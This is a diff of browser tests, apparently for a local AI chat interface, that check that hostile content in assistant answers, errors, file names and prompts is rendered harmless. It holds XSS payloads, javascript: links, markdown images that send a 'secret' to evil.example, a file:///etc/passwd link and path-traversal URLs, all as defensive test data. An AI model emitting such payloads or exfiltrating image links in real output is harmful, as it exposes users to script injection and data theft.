@@ -8,7 +8,9 @@ import { ask, launch, open, serve } from './harness.mjs';
 let server, page, context, close;
 before(async () => {
   server = await serve();
-  ({ page, context, close } = await open(server.url, { expectErrors: /Content Security Policy|ERR_BLOCKED_BY_CSP/ }));
+  ({ page, context, close } = await open(server.url, {
+    expectErrors: /Content Security Policy|ERR_BLOCKED_BY_CSP|status of 400.*page.count/,
+  }));
 });
 after(async () => {
   await close?.();
@@ -19,21 +21,31 @@ after(async () => {
 async function answerWith(text) {
   const frames = [];
   for (let at = 0; at < text.length; at += 4000) {
-    frames.push({ choices: [{ index: 0, delta: { content: text.slice(at, at + 4000) }, finish_reason: null }] });
+    frames.push({
+      choices: [{ index: 0, delta: { content: text.slice(at, at + 4000) }, finish_reason: null }],
+    });
   }
-  frames.push({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }, { choices: [], usage: { prompt_tokens: 1, completion_tokens: 1 } });
-  const body = frames.map((frame) => `data: ${JSON.stringify(frame)}\n\n`).join('') + 'data: [DONE]\n\n';
-  await page.route('**/v1/chat/completions', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
+  frames.push(
+    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
+    { choices: [], usage: { prompt_tokens: 1, completion_tokens: 1 } },
+  );
+  const body =
+    frames.map((frame) => `data: ${JSON.stringify(frame)}\n\n`).join('') + 'data: [DONE]\n\n';
+  await page.route('**/v1/chat/completions', (route) =>
+    route.fulfill({ contentType: 'text/event-stream', body }),
+  );
   await page.getByRole('button', { name: 'New conversation' }).click();
   await ask(page, 'Hello!');
   await page.unroute('**/v1/chat/completions');
   return page.locator('article.assistant .body').last();
 }
 
-const DANGEROUS = 'script, iframe, object, embed, style, link, form, input, img, svg, video, audio, base, meta, [onerror], [onclick], [onload], [style], [srcset]';
+const DANGEROUS =
+  'script, iframe, object, embed, style, link, form, input, img, svg, video, audio, base, meta, [onerror], [onclick], [onload], [style], [srcset]';
 
 test('P09: markup in an answer is shown as text', async () => {
-  const text = '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 1">\n\n' +
+  const text =
+    '<script>window.hacked = 1</script>\n\n<img src=x onerror="window.hacked = 1">\n\n' +
     '<svg onload="window.hacked=1"></svg> <iframe srcdoc="<script>parent.hacked=1</script>"></iframe>\n\n' +
     '<style>body{display:none}</style> <a href="javascript:window.hacked=1">go</a> <form action="https://evil.example"><input></form>';
   const body = await answerWith(text);
@@ -43,16 +55,21 @@ test('P09: markup in an answer is shown as text', async () => {
 });
 
 test('P09: links lead to http, https and mailto only, in a window that cannot reach back', async () => {
-  const body = await answerWith('[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](file:///etc/passwd) ' +
-    '[e](//evil.example) [f](/page/info) [g](https://good.example/?q=1) [h](mailto:a@b.example) [i]( javaScript:alert(1)) <https://angle.example/> ftp://old.example/x see setup.py');
-  const links = await body.locator('a').evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.rel, one.target]));
+  const body = await answerWith(
+    '[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](file:///etc/passwd) ' +
+      '[e](//evil.example) [f](/page/info) [g](https://good.example/?q=1) [h](mailto:a@b.example) [i]( javaScript:alert(1)) <https://angle.example/> ftp://old.example/x see setup.py',
+  );
+  const links = await body
+    .locator('a')
+    .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.rel, one.target]));
   assert.ok(links.length === 3, JSON.stringify(links));
   for (const [href, rel, target] of links) {
     assert.match(href, /^(https?|mailto):/);
     assert.ok(rel.includes('noopener') && rel.includes('noreferrer') && target === '_blank', rel);
   }
   assert.ok(links.some(([href]) => href === 'https://good.example/?q=1'));
-  for (const word of ['evil.example', '/page/info', 'old.example', 'setup.py']) assert.ok(!links.some(([href]) => href.includes(word)), word);
+  for (const word of ['evil.example', '/page/info', 'old.example', 'setup.py'])
+    assert.ok(!links.some(([href]) => href.includes(word)), word);
 });
 
 test('P09: huge tables, 100,000 nested quotes and unclosed code leave the page alive', async () => {
@@ -70,17 +87,36 @@ test('P09: huge tables, 100,000 nested quotes and unclosed code leave the page a
 test('P10: a picture in an answer is a link, and no request leaves the page', async () => {
   const asked = [];
   context.on('request', (request) => asked.push(request.url()));
-  const body = await answerWith('![secret](https://evil.example/?secret) ![](//evil.example/b.png) ![x](data:image/png;base64,AAAA) [![in](https://evil.example/in.png)](https://evil.example/)');
+  const body = await answerWith(
+    '![secret](https://evil.example/?secret) ![](//evil.example/b.png) ![x](data:image/png;base64,AAAA) [![in](https://evil.example/in.png)](https://evil.example/)',
+  );
   assert.equal(await body.locator('img').count(), 0);
-  assert.equal(await body.getByText('[picture: secret]').getAttribute('href'), 'https://evil.example/?secret');
+  assert.equal(
+    await body.getByText('[picture: secret]').getAttribute('href'),
+    'https://evil.example/?secret',
+  );
   await page.waitForTimeout(300);
-  assert.deepEqual(asked.filter((url) => url.includes('evil')), []);
+  assert.deepEqual(
+    asked.filter((url) => url.includes('evil')),
+    [],
+  );
 });
 
 test('P09: titles, names of files and errors are text, too', async () => {
-  await page.route('**/v1/chat/completions', (route) => route.fulfill({ contentType: 'text/event-stream', body: 'data: {"error":{"code":"<b>x</b>","message":"<img src=x onerror=window.hacked=1>"}}\n\n' }));
+  await page.route('**/v1/chat/completions', (route) =>
+    route.fulfill({
+      contentType: 'text/event-stream',
+      body: 'data: {"error":{"code":"<b>x</b>","message":"<img src=x onerror=window.hacked=1>"}}\n\n',
+    }),
+  );
   await page.getByRole('button', { name: 'New conversation' }).click();
-  await page.locator('#files').setInputFiles({ name: '<img src=x onerror=window.hacked=1>.txt', mimeType: 'text/plain', buffer: Buffer.from('x') });
+  await page
+    .locator('#files')
+    .setInputFiles({
+      name: '<img src=x onerror=window.hacked=1>.txt',
+      mimeType: 'text/plain',
+      buffer: Buffer.from('x'),
+    });
   await page.locator('#attachments .note').filter({ hasText: 'tokens' }).waitFor();
   await page.locator('#prompt').fill('<img src=x onerror=window.hacked=1>');
   await page.keyboard.press('Enter');
@@ -103,7 +139,15 @@ test('scripts and styles that get into the document all the same are stopped by 
     button.click();
   });
   assert.equal(await other.evaluate(() => window.hacked), undefined);
-  assert.equal(await other.evaluate(() => fetch('https://evil.example/').then(() => 'sent', () => 'stopped')), 'stopped');
+  assert.equal(
+    await other.evaluate(() =>
+      fetch('https://evil.example/').then(
+        () => 'sent',
+        () => 'stopped',
+      ),
+    ),
+    'stopped',
+  );
   await other.close();
 });
 
@@ -118,12 +162,26 @@ test('a page of another origin can neither ask nor read nor frame', async () => 
   await own.goto(`http://127.0.0.1:${stranger.address().port}/`);
   const tried = await own.evaluate(async (url) => {
     const question = JSON.stringify({ messages: [{ role: 'user', content: 'Hello!' }] });
-    const attempt = (path, init) => fetch(url + path, init).then((response) => response.text(), () => 'refused');
+    const attempt = (path, init) =>
+      fetch(url + path, init).then(
+        (response) => response.text(),
+        () => 'refused',
+      );
     return {
       read: await attempt('/page/info'),
-      asked: await attempt('/v1/chat/completions', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: question }),
+      asked: await attempt('/v1/chat/completions', {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json' },
+        body: question,
+      }),
       simple: await attempt('/v1/chat/completions', { method: 'POST', body: question }),
-      blind: (await fetch(`${url}/v1/chat/completions`, { method: 'POST', mode: 'no-cors', body: question }).catch(() => ({ type: 'refused' }))).type,
+      blind: (
+        await fetch(`${url}/v1/chat/completions`, {
+          method: 'POST',
+          mode: 'no-cors',
+          body: question,
+        }).catch(() => ({ type: 'refused' }))
+      ).type,
       framed: (() => {
         try {
           return document.querySelector('iframe').contentDocument?.title ?? 'no document';
@@ -133,7 +191,10 @@ test('a page of another origin can neither ask nor read nor frame', async () => 
       })(),
     };
   }, server.url);
-  assert.deepEqual({ ...tried, blind: '' }, { read: 'refused', asked: 'refused', simple: 'refused', blind: '', framed: 'no document' });
+  assert.deepEqual(
+    { ...tried, blind: '' },
+    { read: 'refused', asked: 'refused', simple: 'refused', blind: '', framed: 'no document' },
+  );
   assert.doesNotMatch(server.log(), /POST \/v1\/chat\/completions 200/);
   await browser.close();
   stranger.close();
@@ -144,23 +205,47 @@ test('the files have strong tags, a strict policy, and weigh less than 200 KB', 
   const text = await html.text();
   assert.doesNotMatch(text, /<style|<script(?![^>]*src=)|\son\w+=|style=/);
   const policy = html.headers.get('content-security-policy');
-  for (const part of ["default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]) assert.ok(policy.includes(part), part);
+  for (const part of [
+    "default-src 'self'",
+    "connect-src 'self'",
+    "object-src 'none'",
+    "base-uri 'none'",
+    "frame-ancestors 'none'",
+  ])
+    assert.ok(policy.includes(part), part);
   assert.doesNotMatch(policy, /unsafe/);
   let total = 0;
-  for (const path of ['/', '/page/app.js', '/page/style.css', '/page/recorder.js', '/page/icon.svg']) {
+  for (const path of [
+    '/',
+    '/page/app.js',
+    '/page/style.css',
+    '/page/recorder.js',
+    '/page/icon.svg',
+  ]) {
     const response = await fetch(server.url + path, { headers: { Accept: 'text/html' } });
     assert.equal(response.status, 200, path);
     const { headers } = response;
     assert.match(headers.get('etag'), /^"[0-9a-f]{32}"$/);
-    assert.equal(headers.get('permissions-policy'), 'camera=(self), microphone=(self), display-capture=(self)');
+    assert.equal(
+      headers.get('permissions-policy'),
+      'camera=(self), microphone=(self), display-capture=(self)',
+    );
     assert.equal(headers.get('x-content-type-options'), 'nosniff');
     assert.equal(headers.get('referrer-policy'), 'no-referrer');
     total += (await response.arrayBuffer()).byteLength;
-    const again = await fetch(server.url + path, { headers: { Accept: 'text/html', 'If-None-Match': headers.get('etag') } });
+    const again = await fetch(server.url + path, {
+      headers: { Accept: 'text/html', 'If-None-Match': headers.get('etag') },
+    });
     assert.equal(again.status, 304, path);
   }
   assert.ok(total < 200_000, `${total} bytes`);
-  for (const path of ['/page/', '/page/../server.cc', '/page/%2e%2e/x', '/page/app.js/', '/page/none']) {
+  for (const path of [
+    '/page/',
+    '/page/../server.cc',
+    '/page/%2e%2e/x',
+    '/page/app.js/',
+    '/page/none',
+  ]) {
     assert.equal((await fetch(server.url + path)).status, 404, path);
   }
   assert.equal(await (await fetch(server.url)).text(), 'Ollama is running');
